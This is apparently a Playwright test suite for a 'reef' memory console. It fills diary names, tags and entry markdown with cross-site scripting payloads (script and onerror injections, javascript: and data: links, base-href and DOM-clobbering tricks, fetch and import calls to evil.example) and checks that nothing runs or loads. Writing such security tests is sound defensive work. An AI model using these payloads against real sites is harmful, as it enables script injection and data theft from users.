import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import type { Diary, Entry } from "@reef/sdk";
import type { Page } from "playwright-core";
import type { PlayedAgent } from "../support/agents.ts";
import { seenIn, type Visit, withoutChromium } from "../support/browser.ts";
import { type RunningConsole, startConsole } from "../support/console.ts";

/** One line that each of the ways into a page would run, if it were taken for more than text. */
const LINE = `"'><img src=x onerror=alert(1)><script>alert(2)</script><svg onload=alert(3)>{{7*7}}\${8*8}`;
const NAME = "<img src=x onerror=alert(4)>";
const TAG = "<svg/onload=alert(5)>";

/** Markdown of somebody who wants the reader's browser to do something. */
const CONTENT = `# ${LINE}

Words about quays.

<script>alert(10); fetch("https://evil.example/1")</script>
<img src="https://evil.example/2" onerror="alert(11)">
<iframe src="javascript:alert(12)" srcdoc="<script>parent.alert(13)</script>"></iframe>
<svg><script>alert(14)</script><animate onbegin="alert(15)" attributeName="x"></animate></svg>
<style>@import "https://evil.example/3"; body { display: none }</style>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example/4">
<link rel="stylesheet" href="https://evil.example/5">
<object data="https://evil.example/6"></object>
<form id="main" action="https://evil.example/7"><input name="body" autofocus onfocus="alert(16)"></form>
<a id="root"></a><a name="location" href="https://evil.example/8"></a>
<details open ontoggle="alert(17)"><summary>open</summary></details>
<math><mtext></mtext><mglyph><style><img src=x onerror=alert(18)></style></mglyph></math>

![a picture](https://evil.example/9.png) ![another](javascript:alert(19)) <https://evil.example/10>

[run](javascript:alert(20)) [run two](JaVaScRiPt:alert(21)) [run three](java&#x0A;script:alert(22))
[run four](data:text/html,<script>alert(23)</script>) [run five](vbscript:alert(24)) [run six]( &#x01;javascript:alert(25))
[run seven](//evil.example/11) [run eight](/\\evil.example/12) [run nine](blob:https://evil.example/13)

[reference]: javascript:alert(26)
[reference][reference]

A note.[^main]

[^main]: <img src=x onerror=alert(27)>

| <b onmouseover=alert(28)>cell</b> |
| --- |
| [run ten](javascript:alert(29)) |

\`\`\`html"><img/src=x/onerror=alert(30)>
<script>alert(31)</script>
\`\`\`
`;

describe("what agents write does nothing in the console but to be read", {
  skip: withoutChromium,
  concurrency: false,
}, () => {
  let running: RunningConsole;
  let visit: Visit;
  let writer: PlayedAgent;
  let diary: Diary;
  let older: Entry;
  let newer: Entry;

  before(async () => {
    running = await startConsole();
    ({ visit } = running);
    writer = await running.join(NAME);
    const { memory } = writer.reef;
    diary = await memory.createDiary({ name: LINE });
    const common = { diaryId: diary.id, title: LINE, tags: [TAG, LINE.slice(0, 50)], session: LINE };
    older = await memory.createEntry({ ...common, content: `Words about quays. ${LINE}` });
    newer = await memory.createEntry({ ...common, content: CONTENT });
    await memory.createEntry({ diaryId: diary.id, content: CONTENT.slice(CONTENT.indexOf("<script>")), session: LINE });
    const relation = { entryId: newer.id, kind: "supersedes", toEntryId: older.id, note: LINE } as const;
    await memory.ensureRelation(relation);
    const { items } = await running.otter.reef.identity.listAgents({ limit: 10 });
    const otter = items.find(({ name }) => name === "otter");
    await memory.createShare({ diaryId: diary.id, fingerprint: otter?.fingerprint ?? "" });
  });
  after(() => running?.stop());

  /** The page is the console's own still: nothing in it runs, loads, leads or submits elsewhere, or takes another's name. */
  async function isHarmless(page: Page): Promise<void> {
    // Whatever would run does so within this time, when it is loaded, painted, focused or moved over.
    await page.mouse.move(400, 300);
    await page.mouse.move(500, 500);
    await new Promise((resolve) => setTimeout(resolve, 150));
    assert.deepEqual(await page.evaluate(FINDINGS), []);
  }

  it("in its entry, as a page and as a panel, and compared with the version before", async () => {
    for (const path of [`/memory/entries/${newer.id}`, `/memory?panel=entry.${newer.id}`]) {
      await visit(path, async (page) => {
        await page.getByText("Words about quays.").first().waitFor();
        await page.getByLabel("What changed").locator("ins").first().waitFor();
        await isHarmless(page);
        for (const name of ["run", "run two", "run three", "run four", "run five", "run six", "run nine", "run ten"]) {
          const text = page.getByText(name, { exact: true }).first();
          await text.click();
          assert.equal(await text.evaluate((element) => element.closest("a[href]") === null), true, name);
        }
        await isHarmless(page);
        assert.equal(page.context().pages().length, 1);
      });
    }
  });

  it("in lists: diaries, entries, timeline, shares, settings", async () => {
    const at = `/memory/diaries/${diary.id}`;
    for (const path of ["/memory", at, `${at}?tab=timeline`, `${at}?tab=shares`, `${at}?tab=settings`]) {
      await visit(path, async (page) => {
        await page.getByText("<script>alert(2)", { exact: false }).first().waitFor();
        await isHarmless(page);
      });
    }
  });

  it("in a search, where its words are marked, and in the palette", async () => {
    await visit("/memory/search?q=quays+alert+script+onerror", async (page) => {
      await page.locator("mark").first().waitFor();
      await isHarmless(page);
      await page.keyboard.press("Control+k");
      await page.getByRole("combobox", { name: "Search or do something" }).fill("quays alert");
      await page
        .getByRole("option", { name: /onerror/ })
        .first()
        .waitFor();
      await isHarmless(page);
    });
  });

  it("in questions, notices and the fields that the address fills", async () => {
    await visit(`/memory/diaries/${diary.id}?tab=shares`, async (page) => {
      await page.getByRole("button", { name: "How to write" }).click();
      const command = page.getByRole("dialog").locator("code");
      assert.match((await command.textContent()) ?? "", /^reef remember --diary dia_[0-9a-z]{26} "What happened"$/);
      await page.keyboard.press("Escape");
      await page.getByRole("button", { name: /^Take back/ }).click();
      await page.getByRole("alertdialog").getByRole("button", { name: "Take back invitation" }).click();
      await seenIn(page.getByRole("table", { name: "Shares" }), "Revoked").waitFor();
      await isHarmless(page);
    });
    const text = encodeURIComponent(LINE);
    await visit(`/memory/diaries/${diary.id}?session=${text}&tag=${encodeURIComponent(TAG)}`, async (page) => {
      await page.getByText("Session:", { exact: false }).waitFor();
      await isHarmless(page);
    });
    await visit(`/memory?name=${text}`, async (page) => {
      await page.getByRole("searchbox").waitFor();
      await isHarmless(page);
    });
  });
});

/** Runs in the page: what is in it that the console itself did not put there. */
const FINDINGS = `(() => {
  const found = [];
  for (const element of document.querySelectorAll("body *")) {
    const name = element.tagName.toLowerCase();
    if (["iframe", "object", "embed", "base", "meta", "style", "link", "video", "audio", "math", "details"].includes(name)) {
      found.push(name);
    }
    if (name === "img" && !element.src.startsWith(location.origin + "/assets/")) found.push(element.outerHTML);
    if (name === "script" && new URL(element.src, "x:").origin !== location.origin) found.push(element.outerHTML);
    for (const { name: attribute, value } of element.attributes) {
      if (attribute.startsWith("on") || attribute === "srcdoc" || attribute === "formaction") found.push(attribute);
      if (attribute === "id" && /^(root|main|body|location)$/.test(value) && document.querySelectorAll("#" + value).length > 1) {
        found.push("id " + value);
      }
      if (attribute === "name" && /^(location|body|root)$/.test(value)) found.push("name " + value);
    }
    if (name === "a" && element.hasAttribute("href")) {
      const { protocol, origin } = new URL(element.href);
      if (!["http:", "https:", "mailto:"].includes(protocol)) found.push(element.href);
      if (origin !== location.origin && !/noopener.*noreferrer/.test(element.rel)) found.push("rel of " + element.href);
    }
    if (name === "form" && element.hasAttribute("action")) found.push("form to " + element.action);
  }
  if (document.body.tagName !== "BODY" || document.baseURI.includes("evil")) found.push("clobbered");
  if (getComputedStyle(document.body).display === "none") found.push("styled");
  if (/49|64/.test(document.title)) found.push("template");
  return found;
})()`;
